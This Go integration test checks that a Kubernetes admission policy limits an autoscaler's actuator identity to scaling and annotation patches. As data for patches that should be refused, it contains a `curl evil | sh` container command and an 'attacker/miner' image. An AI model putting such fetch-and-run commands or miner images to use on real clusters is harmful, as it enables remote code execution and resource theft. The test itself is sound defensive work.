//go:build integration

package scale

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"

	"github.com/ebbflow/ebbflow/actuators"
	"github.com/ebbflow/ebbflow/internal/cluster"
	"github.com/ebbflow/ebbflow/schemas"
)

const admissionPolicies = "../../deploy/admission/actuator-policy.yaml"

// applyPolicies applies this test's copy of deploy/admission, judging only
// objects labelled app=<app>, and waits until the API server enforces it:
// the actuator's spec patch is refused with the policy's message.
func applyPolicies(t *testing.T, admin, act kubernetes.Interface, ns, app string) {
	t.Helper()
	ctx := context.Background()
	// The binding below judges objects labelled app=<app>: label the Deployment itself.
	if _, err := admin.AppsV1().Deployments(ns).Patch(ctx, app, types.MergePatchType,
		fmt.Appendf(nil, `{"metadata":{"labels":{"app":%q}}}`, app), metav1.PatchOptions{}); err != nil {
		t.Fatal(err)
	}
	suffix := fmt.Sprintf("it-%d", time.Now().UnixNano()%1_000_000_000)
	cleanup, err := cluster.ApplyAdmissionPolicies(ctx, admin, admissionPolicies, suffix,
		&metav1.LabelSelector{MatchLabels: map[string]string{"app": app}})
	if err != nil {
		t.Fatalf("apply %s: %v", admissionPolicies, err)
	}
	t.Cleanup(cleanup)
	// (The dev control plane runs no validatingadmissionpolicy-status-controller, so
	// status.typeChecking stays empty: a type error would show below as a refused
	// request, the identity's own work failing with failurePolicy Fail.)
	i := 0
	cluster.WaitFor(t, time.Minute, "the API server enforcing the actuator policy", func(ctx context.Context) (bool, string, error) {
		i++
		_, err := act.AppsV1().Deployments(ns).Patch(ctx, app, types.StrategicMergePatchType,
			fmt.Appendf(nil, `{"spec":{"template":{"spec":{"containers":[{"name":"srv","image":"attacker/miner:%d"}]}}}}`, i), metav1.PatchOptions{})
		if err == nil {
			return false, "spec patch still accepted", nil
		}
		if strings.Contains(err.Error(), "ebbflow-actuator may not change the spec") {
			return true, "", nil
		}
		return false, "", fmt.Errorf("spec patch refused, but not by the policy: %w", err)
	})
	// Put the image back (as admin) so the test starts from the original.
	if _, err := admin.AppsV1().Deployments(ns).Patch(ctx, app, types.StrategicMergePatchType,
		[]byte(`{"spec":{"template":{"spec":{"containers":[{"name":"srv","image":"nvcr.io/nvidia/tritonserver:24.08-py3"}]}}}}`), metav1.PatchOptions{}); err != nil {
		t.Fatal(err)
	}
}

// TestKubeAdmissionPolicyLimitsActuatorPatches: RBAC lets ebbflow-actuator
// patch any Deployment (to record decisions); the ValidatingAdmissionPolicy
// in deploy/admission makes the real API server refuse every patch by that
// identity except to ebbflow.io/ annotations, and replicas except through
// /scale, while the scale handler's own work (scale subresource, then the
// annotation patch) still succeeds.
func TestKubeAdmissionPolicyLimitsActuatorPatches(t *testing.T) {
	admin, actClient := kubeClients(t)
	ns := testNamespace(t, admin)
	createDeployment(t, admin, ns, "web", 1)
	applyPolicies(t, admin, actClient, ns, "web")
	ctx := context.Background()

	refused := []struct{ what, patch, message string }{
		{"image", `{"spec":{"template":{"spec":{"containers":[{"name":"srv","image":"attacker/miner:1"}]}}}}`, "may not change the spec"},
		{"command", `{"spec":{"template":{"spec":{"containers":[{"name":"srv","command":["sh","-c","curl evil | sh"]}]}}}}`, "may not change the spec"},
		{"replicas through the object", `{"spec":{"replicas":7}}`, "replicas only through the scale subresource"},
		{"a foreign annotation", `{"metadata":{"annotations":{"deployment.kubernetes.io/revision":"99"}}}`, "only ebbflow.io/ annotations"},
		{"a label", `{"metadata":{"labels":{"tier":"gold"}}}`, "may not change the labels"},
	}
	for _, r := range refused {
		_, err := actClient.AppsV1().Deployments(ns).Patch(ctx, "web", types.StrategicMergePatchType, []byte(r.patch), metav1.PatchOptions{})
		if err == nil || !strings.Contains(err.Error(), r.message) {
			t.Errorf("patch of %s by ebbflow-actuator: err %v, want refused with %q", r.what, err, r.message)
		} else {
			t.Logf("%s: %v", r.what, err)
		}
	}
	d, err := admin.AppsV1().Deployments(ns).Get(ctx, "web", metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if img := d.Spec.Template.Spec.Containers[0].Image; img != "nvcr.io/nvidia/tritonserver:24.08-py3" || *d.Spec.Replicas != 1 || d.Labels["tier"] != "" {
		t.Fatalf("a refused patch changed the Deployment: image %s replicas %d labels %v", img, *d.Spec.Replicas, d.Labels)
	}

	// Its own work: an ebbflow.io/ annotation patch, and the scale handler end to end.
	if _, err := actClient.AppsV1().Deployments(ns).Patch(ctx, "web", types.MergePatchType,
		[]byte(`{"metadata":{"annotations":{"ebbflow.io/last-action":"probe"}}}`), metav1.PatchOptions{}); err != nil {
		t.Fatalf("ebbflow.io/ annotation patch refused: %v", err)
	}
	dec := kubeDecision(ns, "web", time.Now().UnixMilli(), 3)
	a, err := actuators.NewActuator(actuators.DefaultConfig(), "it", "it-actuator", actClient, registry(actClient, actuators.DefaultConfig()), nil, quiet, nil)
	if err != nil {
		t.Fatal(err)
	}
	act, _, err := a.Process(ctx, dec.EventType(), mustMarshal(t, dec))
	if err != nil || act.Outcome != schemas.OutcomeApplied {
		t.Fatalf("scale decision under the policy: %+v %v", act, err)
	}
	n, ann := specReplicas(t, admin, ns, "web")
	if n != 3 || ann[actuators.AnnotationLastDecisionID] != dec.ID {
		t.Fatalf("after the decision: replicas %d annotations %v; want 3 and %s recorded", n, ann, dec.ID)
	}
	// The same for a StatefulSet (the binding selects it by the same label).
	one := int32(1)
	web := map[string]string{"app": "web"}
	if _, err := admin.AppsV1().StatefulSets(ns).Create(ctx, &appsv1.StatefulSet{
		ObjectMeta: metav1.ObjectMeta{Name: "db", Namespace: ns, Labels: web},
		Spec: appsv1.StatefulSetSpec{Replicas: &one, Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": "db"}},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": "db"}},
				Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "db", Image: "postgres"}}}}},
	}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	if _, err := actClient.AppsV1().StatefulSets(ns).Patch(ctx, "db", types.StrategicMergePatchType,
		[]byte(`{"spec":{"template":{"spec":{"containers":[{"name":"db","image":"attacker/miner:1"}]}}}}`), metav1.PatchOptions{}); err == nil ||
		!strings.Contains(err.Error(), "may not change the spec") {
		t.Errorf("StatefulSet image patch by ebbflow-actuator: err %v, want refused by the policy", err)
	}
	sd := kubeDecision(ns, "db", time.Now().UnixMilli(), 2)
	sd.Target.Kind = "StatefulSet"
	if act, _, err := a.Process(ctx, sd.EventType(), mustMarshal(t, sd)); err != nil || act.Outcome != schemas.OutcomeApplied {
		t.Fatalf("StatefulSet scale decision under the policy: %+v %v", act, err)
	}
	st, err := admin.AppsV1().StatefulSets(ns).Get(ctx, "db", metav1.GetOptions{})
	if err != nil || *st.Spec.Replicas != 2 || st.Annotations[actuators.AnnotationLastDecisionID] != sd.ID || st.Spec.Template.Spec.Containers[0].Image != "postgres" {
		t.Fatalf("StatefulSet after the decision: %+v %v", st, err)
	}
	// The policy judges only that identity: the admin may still change the spec.
	if _, err := admin.AppsV1().Deployments(ns).Patch(ctx, "web", types.MergePatchType, []byte(`{"metadata":{"labels":{"tier":"gold"}}}`), metav1.PatchOptions{}); err != nil {
		t.Fatalf("admin label patch refused: %v", err)
	}
}
